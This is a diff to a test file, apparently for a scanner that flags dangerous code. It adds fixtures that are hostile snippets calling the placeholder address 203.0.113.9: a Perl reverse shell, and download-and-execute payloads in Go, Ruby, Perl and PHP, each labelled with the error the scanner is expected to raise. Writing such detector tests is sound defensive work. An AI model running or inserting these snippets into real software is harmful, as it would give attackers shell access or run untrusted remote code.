@@ -57,6 +57,18 @@ describe('a text that reaches a shell', () => {
 
 describe('two facts that belong together', () => {
   it.each<[Dialect, string, string]>([
+    [
+      'perl',
+      'my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.9", PeerPort => 8443);\nwhile (my $c = <$s>) { chomp $c; my $o = `$c 2>&1`; print $s $o; }',
+      'error reverse-shell',
+    ],
+    [
+      'go',
+      'r, err := http.Get("http://203.0.113.9/lite.bin")\np := filepath.Join(os.TempDir(), ".private-geo")\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, r.Body)\nf.Close()\ncmd := exec.Command(p, "-d")\ncmd.Start()',
+      'error download-execute',
+    ],
+    // The mark belongs to the name before it, and the line ends there.
+    ['ruby', `return if names.empty?\neval(URI.open('http://203.0.113.9/core.rb').read)`, 'error download-execute'],
     ['ruby', "require 'open-uri'\neval(URI.open('http://203.0.113.9/core.rb').read)", 'error download-execute'],
     ['perl', 'use LWP::Simple; my $c = get("http://203.0.113.9/a"); eval $c;', 'error download-execute'],
     ['php', "<?php $core = file_get_contents('http://203.0.113.9/latest.txt');\neval('?>' . $core);", 'error download-execute'],
